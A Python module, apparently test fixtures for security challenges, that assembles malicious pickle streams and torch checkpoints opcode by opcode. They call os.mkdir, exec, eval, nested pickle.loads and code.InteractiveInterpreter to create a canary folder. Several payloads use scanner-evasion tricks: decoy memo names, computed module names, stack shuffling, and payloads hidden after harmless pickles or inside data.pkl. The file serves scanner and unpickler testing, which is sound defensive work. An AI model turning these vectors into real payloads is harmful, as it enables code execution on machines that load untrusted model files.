"""Pickle streams for the security challenges, assembled opcode by opcode: torch checkpoints, and payloads that
would create a canary (a folder at a path the trusted side watches) if anything executed them.

Each payload is named after the dangerous global it resolves to, as ``module.name``: the name a scanner or a
restricted unpickler must report.
"""

from __future__ import annotations

import io
import pickle
import struct
import zipfile

import torch

TORCH_MAGIC_NUMBER = 0x1950A86A20F9469CFC6C  # the first pickle of torch's legacy format


def as_tensor(data: bytes) -> torch.Tensor:
    """A file's bytes as a uint8 tensor: how they cross to the worker and back."""
    return torch.frombuffer(bytearray(data), dtype=torch.uint8)


def checkpoint(state: dict, name: str = "archive") -> bytes:
    """``torch.save(state)`` as a zip checkpoint whose members lie under ``name/``."""
    buffer = io.BytesIO()
    torch.save(state, buffer)
    return rename_archive(buffer.getvalue(), name)


def members(archive: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(archive)) as source:
        return {member: source.read(member) for member in source.namelist()}


def zipped(files: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as target:
        for member, data in files.items():
            target.writestr(member, data)
    return buffer.getvalue()


def rename_archive(archive: bytes, name: str) -> bytes:
    return zipped({f"{name}/{member.split('/', 1)[1]}": data for member, data in members(archive).items()})


def with_data_pickle(archive: bytes, data_pickle: bytes) -> bytes:
    """The checkpoint with its ``data.pkl`` replaced (its storages stay, as a real attack's would)."""
    return zipped({member: data_pickle if member.endswith("/data.pkl") else data
                   for member, data in members(archive).items()})


class Reduced:
    """An object that pickles as a call of ``function``: how a real attack is written (``__reduce__``), here inside
    a state dict that torch.save writes as usual."""

    def __init__(self, function, *arguments):
        self.function, self.arguments = function, arguments

    def __reduce__(self):
        return self.function, self.arguments


# -- assembling ------------------------------------------------------------------------------------------------
def header(protocol: int) -> bytes:
    return pickle.PROTO + bytes([protocol]) if protocol >= 2 else b""


def text(value: str, protocol: int) -> bytes:
    """A string: UNICODE (protocol 0), BINUNICODE (1 to 3), SHORT_BINUNICODE (4 and 5)."""
    if protocol == 0:
        return pickle.UNICODE + value.encode("raw-unicode-escape") + b"\n"
    data = value.encode()
    if protocol < 4:
        return pickle.BINUNICODE + struct.pack("<I", len(data)) + data
    return pickle.SHORT_BINUNICODE + bytes([len(data)]) + data


def blob(value: bytes, protocol: int) -> bytes:
    """A bytes constant (protocol 3 and later): BINBYTES, or BYTEARRAY8 in protocol 5."""
    if protocol >= 5:
        return pickle.BYTEARRAY8 + struct.pack("<Q", len(value)) + value
    return pickle.BINBYTES + struct.pack("<I", len(value)) + value


def global_(module: str, name: str, protocol: int) -> bytes:
    """GLOBAL below protocol 4, STACK_GLOBAL from 4 (which also resolves dotted names)."""
    if protocol < 4:
        return pickle.GLOBAL + f"{module}\n{name}\n".encode()
    return text(module, protocol) + text(name, protocol) + pickle.STACK_GLOBAL


def applied(arguments: tuple[str, ...], protocol: int) -> bytes:
    """Call what is on top of the stack with these strings: the result replaces it."""
    return pickle.MARK + b"".join(text(a, protocol) for a in arguments) + pickle.TUPLE + pickle.REDUCE


def call(module: str, name: str, arguments: tuple[str, ...], protocol: int) -> bytes:
    """``module.name(*arguments)``: the result stays on the stack."""
    return global_(module, name, protocol) + applied(arguments, protocol)


def stream(body: bytes, protocol: int) -> bytes:
    return header(protocol) + body + pickle.STOP


# -- payloads ----------------------------------------------------------------------------------------------------
def make_folder(canary: str) -> str:
    return f"import os; os.mkdir({canary!r})"


def plain(canary: str, protocol: int, dotted: str = "os.mkdir") -> bytes:
    """One call of a global that creates the canary."""
    module, name = dotted.rsplit(".", 1)
    arguments = {"builtins.open": (canary, "w"), "io.open": (canary, "w"), "codecs.open": (canary, "w"),
                 "builtins.exec": (make_folder(canary),), "builtins.eval": (f"__import__('os').mkdir({canary!r})",)}
    return stream(call(module, name, arguments.get(dotted, (canary,)), protocol), protocol)


def through_attribute(canary: str, module: str, path: str, protocol: int = 4) -> bytes:
    """STACK_GLOBAL's dotted names (protocol 4+): an innocuous-looking module, then attributes down to os.mkdir."""
    return stream(call(module, path, (canary,), protocol), protocol)


def instantiated(canary: str) -> bytes:
    """Protocol 0's INST: ``MARK args INST module name`` calls any callable, not only classes."""
    return pickle.MARK + text(canary, 0) + pickle.INST + b"os\nmkdir\n" + pickle.STOP


def as_object(canary: str) -> bytes:
    """Protocol 1's OBJ: ``MARK callable args OBJ``."""
    return pickle.MARK + global_("posix", "mkdir", 1) + text(canary, 1) + pickle.OBJ + pickle.STOP


def memo_names(canary: str) -> bytes:
    """STACK_GLOBAL's names fetched from the memo, with a harmless pair pushed last: a scanner that reads the
    two strings before STACK_GLOBAL sees collections.OrderedDict."""
    protocol = 4
    body = (text("posix", protocol) + pickle.MEMOIZE + text("mkdir", protocol) + pickle.MEMOIZE
            + pickle.POP + pickle.POP + text("collections", protocol) + text("OrderedDict", protocol)
            + pickle.POP + pickle.POP + pickle.BINGET + b"\x00" + pickle.BINGET + b"\x01" + pickle.STACK_GLOBAL
            + applied((canary,), protocol))
    return stream(body, protocol)


def overwritten_memo(canary: str) -> bytes:
    """A memo slot written twice (BINPUT): the unpickler reads the last value, not the first."""
    protocol = 4
    body = (text("collections", protocol) + pickle.BINPUT + b"\x07" + pickle.POP
            + text("posix", protocol) + pickle.BINPUT + b"\x07" + pickle.POP
            + pickle.BINGET + b"\x07" + text("mkdir", protocol) + pickle.STACK_GLOBAL
            + applied((canary,), protocol))
    return stream(body, protocol)


def computed_module(canary: str) -> bytes:
    """STACK_GLOBAL whose module name is computed while unpickling (``str("posix")``): only running it tells."""
    protocol = 4
    body = (call("builtins", "str", ("posix",), protocol) + text("mkdir", protocol) + pickle.STACK_GLOBAL
            + applied((canary,), protocol))
    return stream(body, protocol)


def through_the_stack(canary: str) -> bytes:
    """STACK_GLOBAL's strings moved about by DUP, marks, tuples, dict items and a call, written with protocol 3's
    BINUNICODE: ``posix.mkdir(canary)``, then ``posix.rmdir`` resolved (not called) from a string left below."""
    protocol = 3
    body = (text("aaa", protocol) + text("bbb", protocol) + text("posix", protocol) + pickle.DUP
            + pickle.MARK + text("ccc", protocol) + text("ddd", protocol) + pickle.TUPLE + pickle.POP
            + pickle.EMPTY_DICT + pickle.MARK + text("eee", protocol) + text("fff", protocol) + pickle.SETITEMS
            + pickle.POP + pickle.MARK + text("ggg", protocol) + pickle.POP_MARK
            + text("mkdir", protocol) + pickle.STACK_GLOBAL + applied((canary,), protocol)
            + pickle.POP + text("rmdir", protocol) + pickle.STACK_GLOBAL)
    return stream(body, 4)


def broken_off(canary: str) -> bytes:
    """A payload, then an opcode that does not exist: unpickling runs the payload and stops there, so what
    follows (a GLOBAL os.system, as text) is not a pickle."""
    return header(2) + call("posix", "mkdir", (canary,), 2) + b"\xff" + b"cos\nsystem\n."


def nested(canary: str, loader: str = "pickle.loads", protocol: int = 4) -> bytes:
    """``loader(inner)``, where the bytes constant ``inner`` is itself a payload."""
    module, name = loader.rsplit(".", 1)
    inner = plain(canary, protocol, "posix.mkdir")
    return stream(global_(module, name, protocol) + pickle.MARK + blob(inner, protocol) + pickle.TUPLE
                  + pickle.REDUCE, protocol)


def interpreter(canary: str) -> bytes:
    """``code.InteractiveInterpreter().runsource(source)``: a method reached through a dotted name."""
    protocol = 4
    body = (global_("code", "InteractiveInterpreter", protocol) + pickle.EMPTY_TUPLE + pickle.REDUCE
            + pickle.MEMOIZE + pickle.POP
            + global_("code", "InteractiveInterpreter.runsource", protocol)
            + pickle.MARK + pickle.BINGET + b"\x00" + text(make_folder(canary), protocol) + pickle.TUPLE
            + pickle.REDUCE)
    return stream(body, protocol)


def after_a_harmless_pickle(payload: bytes) -> bytes:
    """Two pickles back to back, as torch's legacy format writes them: the payload is the second."""
    return pickle.dumps(TORCH_MAGIC_NUMBER, protocol=2) + payload
